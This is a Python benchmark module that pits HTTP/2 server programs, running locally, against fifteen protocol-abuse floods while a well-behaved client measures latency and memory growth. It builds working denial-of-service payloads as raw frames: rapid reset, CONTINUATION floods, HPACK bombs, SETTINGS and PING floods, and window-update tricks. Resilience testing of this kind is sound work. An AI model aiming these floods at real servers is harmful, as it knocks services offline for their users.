"""What a well-behaved client feels, and what memory it costs, while four connections abuse HTTP/2.

Attackers send byte strings made beforehand as fast as they are taken, read and forget what comes back, and connect anew
(after 20 ms at the earliest) when the server has ended them. They share the load's core with the well-behaved client and
the target, but stand back for both (nice 15 against -19): the program under test has its core to itself, and what is
waited for is the program. A fresh connection (TLS handshake, one request, its answer) begins every 50 ms whether or not
those before it are done.
"""
import contextlib
import multiprocessing
import os
import select
import socket
import ssl
import struct
import threading
import time

from lab import LOAD_CPU, proportional_set, secure_context, undisturbed

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# Bytes that are written at once, and bytes of streams before a connection whose abuse needs new ones ends by itself.
BLOCK, AMOUNT = 32_768, 4 << 20
ATTACKERS, PERIOD, PATIENCE = 4, 0.05, 5.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A field without indexing whose name is in the static table (RFC 7541 6.2.2); short values only."""
    return bytes((index, len(value))) + value


GET = b"\x82\x87" + literal(4, b"/1k") + literal(1, b"bench")
POST = b"\x83\x87" + literal(4, b"/1k") + literal(1, b"bench")
# A field of 4,000 bytes into the dynamic table, where index 62 then names it.
LARGE = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"v" * 4000


def get(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)


def window(stream, more):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", more))


def per_stream(make, opening=b""):
    """As many streams as make AMOUNT bytes, one after the other: (opening, blocks, whether they may be sent again)."""
    made, stream, blocks = bytearray(), 1, []
    while len(blocks) * BLOCK < AMOUNT:
        made += make(stream)
        stream += 2
        if len(made) >= BLOCK:
            blocks.append(bytes(made))
            made.clear()
    return opening, blocks, False


def endless(piece, opening=b""):
    return opening, [piece * max(1, BLOCK // len(piece))], True


def hpack_bomb():
    """12,000 references to one field of 4,000 bytes: 48 MB of fields in 12 KB."""
    return per_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream,
                                           GET + (LARGE if stream == 1 else b"") + b"\xbe" * 12_000))


ATTACKS = {
    "rapid reset": lambda: per_stream(lambda s: get(s) + frame(RST_STREAM, 0, s, b"\0\0\0\x08")),
    "window update of 0": lambda: per_stream(lambda s: get(s) + window(s, 0)),
    "window overflow": lambda: per_stream(lambda s: get(s) + window(s, 0x7FFFFFFF)),
    "data after the end": lambda: per_stream(lambda s: get(s) + frame(DATA, END_STREAM, s, b"x")),
    "length that is not kept": lambda: per_stream(
        lambda s: frame(HEADERS, END_HEADERS, s, POST + b"\x0f\x0d\x011") + frame(DATA, END_STREAM, s, b"xx")),
    "CONTINUATION without bytes": lambda: endless(frame(CONTINUATION, 0, 1), frame(HEADERS, END_STREAM, 1, GET)),
    "CONTINUATION with bytes": lambda: endless(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
                                               frame(HEADERS, END_STREAM, 1, GET)),
    "SETTINGS": lambda: endless(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff")),
    "PING": lambda: endless(frame(PING, 0, 0, b"attacker")),
    "PRIORITY": lambda: endless(frame(PRIORITY, 0, 1, b"\0\0\0\3\x10")),
    "DATA without bytes": lambda: endless(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST)),
    "WINDOW_UPDATE": lambda: endless(window(0, 1)),
    "HPACK bomb, size": hpack_bomb,
    "HPACK bomb, count": lambda: per_stream(
        lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, GET + b"\x90" * 16_000)),
    "windows of 1 byte": lambda: per_stream(
        lambda s: frame(HEADERS, END_STREAM | END_HEADERS, s, b"\x82\x87" + literal(4, b"/1m") + literal(1, b"bench")),
        frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01")),
}


def prepare(nice):
    os.sched_setaffinity(0, {LOAD_CPU})
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, nice)
    undisturbed()


def attack(port, what, seconds, result):
    """Sends for `seconds`; tells (bytes sent, connections)."""
    prepare(15)
    opening, blocks, again = what
    context, end, sent, connections = secure_context(["h2"]), time.monotonic() + seconds, 0, 0
    while (began := time.monotonic()) < end:
        with contextlib.suppress(OSError):
            with socket.create_connection(("127.0.0.1", port), max(0.01, end - began)) as plain, \
                    context.wrap_socket(plain) as sock:
                connections += 1
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + opening)
                sock.setblocking(False)
                sent += flood(sock, blocks, again, end)
        time.sleep(max(0.0, min(began + 0.02, end) - time.monotonic()))
    result.send((sent, connections))


def flood(sock, blocks, again, end):
    """Until the server ends the connection, the blocks do, or the time."""
    sent, poll = 0, select.poll()
    poll.register(sock, select.POLLIN | select.POLLOUT)
    number, left = 0, memoryview(blocks[0])
    try:
        while time.monotonic() < end:
            poll.poll(1 + 1000 * (end - time.monotonic()))
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                while sock.recv(65_536):
                    pass
                break  # the server's end
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
                count = sock.send(left)
                sent, left = sent + count, left[count:]
            if not left:
                number += 1
                if number == len(blocks) and not again:
                    break
                left = memoryview(blocks[number % len(blocks)])
    except OSError:
        pass
    return sent


def visit(port, waits, number):
    """One fresh connection; its milliseconds, or None where it got no answer."""
    began, waits[number] = time.perf_counter(), None
    with contextlib.suppress(OSError):
        with socket.create_connection(("127.0.0.1", port), PATIENCE) as plain, secure_context().wrap_socket(plain) as sock:
            sock.sendall(b"GET /1k HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
            got = b""
            while len(got.partition(b"\r\n\r\n")[2]) < 1024 and (piece := sock.recv(65_536)):
                got += piece
            if got.startswith(b"HTTP/1.1 200") and len(got.partition(b"\r\n\r\n")[2]) == 1024:
                waits[number] = (time.perf_counter() - began) * 1e3


def visitors(port, seconds, result):
    prepare(-19)
    began, waits, threads = time.monotonic(), {}, []
    for number in range(int(seconds / PERIOD)):
        time.sleep(max(0.0, began + number * PERIOD - time.monotonic()))
        threads.append(threading.Thread(target=visit, args=(port, waits, number)))
        threads[-1].start()
    for thread in threads:
        thread.join()
    result.send(list(waits.values()))


def measure(running, what, seconds):
    """One attack (None: calm) on a running program: waits in ms, growth in bytes, bytes sent, connections."""
    forked = multiprocessing.get_context("fork")
    before, most, results, processes = proportional_set(running.process.pid), 0, [], []
    jobs = [(visitors, (running.secure_port, seconds))]
    if what:
        jobs += [(attack, (running.secure_port, what, seconds))] * ATTACKERS
    for job, arguments in jobs:
        ours, theirs = forked.Pipe(False)
        results.append(ours)
        processes.append(forked.Process(target=job, args=(*arguments, theirs)))
        processes[-1].start()
        theirs.close()
    usual = os.sched_getaffinity(0)
    os.sched_setaffinity(0, {LOAD_CPU})  # the program keeps its core
    try:
        while any(process.is_alive() for process in processes):
            most = max(most, proportional_set(running.process.pid))
            time.sleep(0.1)
    finally:
        os.sched_setaffinity(0, usual)
        for process in processes:
            process.join()
    waits, *attacks = [result.recv() for result in results]
    answered = sorted(wait for wait in waits if wait is not None)
    failed = len(waits) - len(answered)
    waits = answered + [PATIENCE * 1e3] * failed
    if running.process.poll() is not None:
        raise RuntimeError(f"{running.program.name} has ended under the attack")
    return {"p50": waits[len(waits) // 2], "p99": waits[len(waits) * 99 // 100], "failed": failed, "growth": max(0, most - before),
            "sent": sum(sent for sent, _ in attacks), "connections": sum(count for _, count in attacks)}


def run(lab, programs, seconds, names=None):
    """{attack: {program: figures}}; each program starts anew for each attack."""
    rows = {}
    for name in names or ["calm", *ATTACKS]:
        what = ATTACKS[name]() if name != "calm" else None
        for program in programs:
            running = lab.start(program, tls=True)
            try:
                visit(running.secure_port, {}, 0)  # what the first connection costs is no growth
                rows.setdefault(name, {})[program.name] = measure(running, what, seconds)
            finally:
                running.stop()
    return rows
